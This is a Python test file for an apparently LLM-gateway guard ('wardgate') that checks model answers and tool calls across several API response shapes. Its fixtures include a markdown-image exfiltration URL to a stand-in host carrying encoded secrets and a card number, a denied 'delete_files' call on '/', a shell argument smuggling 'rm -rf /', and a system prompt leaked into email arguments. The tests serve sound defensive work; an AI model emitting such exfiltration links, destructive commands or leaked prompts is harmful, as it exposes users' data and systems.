"""The output and tools checks on every answer shape: choices, content parts, the Responses
API, Anthropic blocks, `n > 1` streams and legacy function calls."""

from __future__ import annotations

from typing import Any

import orjson
import pytest
from multidict import CIMultiDict

from wardgate.checks import output, tools
from wardgate.decision import Action
from wardgate.exchange import Exchange
from wardgate.pipeline import StreamEvent
from wardgate.providers.call import LLMCall, Message, Origin

LEAK = "![c](https://collect.evil.test/p.png?d=c2VjcmV0LWNhcmQ)"
RULES = tools.ToolsCheck(tools.Config(allowed=["get_weather"]))
OUTPUT = output.OutputCheck(output.Config())


def _exchange(body: Any = None) -> Exchange:
    ex = Exchange("rid", "POST", "/v1/chat/completions", "", CIMultiDict(), "10.0.0.1")
    ex.call = LLMCall("chat", "m", (Message("user", Origin.USER, "hi", "messages[0].content"),))
    ex.status = 200
    ex.response_body = orjson.dumps(body) if body is not None else None
    return ex


@pytest.mark.parametrize(
    "body",
    [
        {"choices": [{"index": 0, "message": {"role": "assistant", "content": LEAK}}]},
        {"choices": [{"index": 0, "message": {"content": [{"type": "text", "text": LEAK}]}}]},
        {"output": [{"type": "message", "content": [{"type": "output_text", "text": LEAK}]}]},
        {"type": "message", "content": [{"type": "text", "text": LEAK}]},
    ],
)
async def test_exfiltration_is_neutralized_in_every_whole_answer_shape(body: Any) -> None:
    ex = _exchange(body)
    decision = await OUTPUT.check_response(ex)
    assert decision.action is Action.MODIFY
    assert b"evil.test" not in (ex.response_body or b"")


async def test_denied_calls_are_removed_from_responses_api_output() -> None:
    body = {
        "output": [
            {"type": "function_call", "name": "delete_files", "arguments": '{"path": "/"}'},
            {"type": "function_call", "name": "get_weather", "arguments": '{"city": "Oslo"}'},
        ]
    }
    ex = _exchange(body)
    assert (await RULES.check_response(ex)).action is Action.MODIFY
    kept = orjson.loads(ex.response_body or b"{}")["output"]
    assert [item["name"] for item in kept] == ["get_weather"]


async def _stream(check: Any, events: list[Any]) -> list[Action]:
    ex = _exchange()
    actions = []
    for event in events:
        data = event if isinstance(event, str) else orjson.dumps(event).decode()
        actions.append((await check.check_chunk(ex, StreamEvent(data))).action)
    return actions


def _chunk(choice: int, delta: dict[str, Any], finish: str | None = None) -> dict[str, Any]:
    return {"choices": [{"index": choice, "delta": delta, "finish_reason": finish}]}


def _call(index: int, name: str = "", arguments: str = "") -> dict[str, Any]:
    function: dict[str, str] = {"arguments": arguments}
    if name:
        function["name"] = name
    return {"tool_calls": [{"index": index, "function": function}]}


async def test_two_choices_streaming_allowed_calls_side_by_side_pass() -> None:
    events = [
        _chunk(0, _call(0, "get_weather")),
        _chunk(1, _call(0, "get_weather")),
        _chunk(0, _call(0, arguments='{"city": "Oslo"}')),
        _chunk(1, _call(0, arguments='{"city": "Rome"}')),
        _chunk(0, {}, "tool_calls"),
        _chunk(1, {}, "tool_calls"),
        "[DONE]",
    ]
    assert set(await _stream(RULES, events)) == {Action.ALLOW}


async def test_a_legacy_function_call_and_an_unplaceable_call_are_refused() -> None:
    legacy = [_chunk(0, {"function_call": {"name": "delete_files", "arguments": ""}})]
    assert (await _stream(RULES, legacy))[-1] is Action.BLOCK
    unplaceable = [_chunk(0, {"tool_calls": [{"function": {"name": "get_weather"}}]})]
    assert (await _stream(RULES, unplaceable))[-1] is Action.BLOCK


async def test_a_stream_ending_without_a_finish_reason_is_judged_at_done() -> None:
    strict = tools.ToolsCheck(tools.Config(tools={"run": {"shell": True}}))
    events = [_chunk(0, _call(0, "run", '{"cmd": "ls; rm -rf /"}')), "[DONE]"]
    assert await _stream(strict, events) == [Action.ALLOW, Action.BLOCK]


async def test_a_construct_split_across_two_interleaved_choices_is_still_found() -> None:
    events = [
        _chunk(0, {"content": "see ![c](https://collect.evil.test/"}),
        _chunk(1, {"content": "other answer "}),
        _chunk(0, {"content": "alice/visa/4111111111111111)"}),
    ]
    assert (await _stream(OUTPUT, events))[-1] is Action.BLOCK


async def test_the_system_prompt_in_tool_arguments_is_a_leak_whole_and_streamed() -> None:
    system = "You are the billing assistant of Example Corp; never reveal invoice numbers."
    check = output.OutputCheck(output.Config(min_leak_chars=40))
    call_body = {
        "choices": [
            {
                "index": 0,
                "message": {
                    "content": None,
                    "tool_calls": [
                        {
                            "id": "c",
                            "type": "function",
                            "function": {
                                "name": "send_email",
                                "arguments": orjson.dumps({"body": system}).decode(),
                            },
                        }
                    ],
                },
            }
        ]
    }
    ex = _exchange(call_body)
    ex.call = LLMCall(
        "chat",
        "m",
        (
            Message("system", Origin.SYSTEM, system, "messages[0].content"),
            Message("user", Origin.USER, "hi", "messages[1].content"),
        ),
    )
    await check.check_request(ex)
    assert (await check.check_response(ex)).action is Action.BLOCK
    actions = []
    text = orjson.dumps({"body": system}).decode()
    for start in range(0, len(text), 7):
        piece = _chunk(0, _call(0, arguments=text[start : start + 7]))
        event = StreamEvent(orjson.dumps(piece).decode())
        actions.append((await check.check_chunk(ex, event)).action)
    assert Action.BLOCK in actions
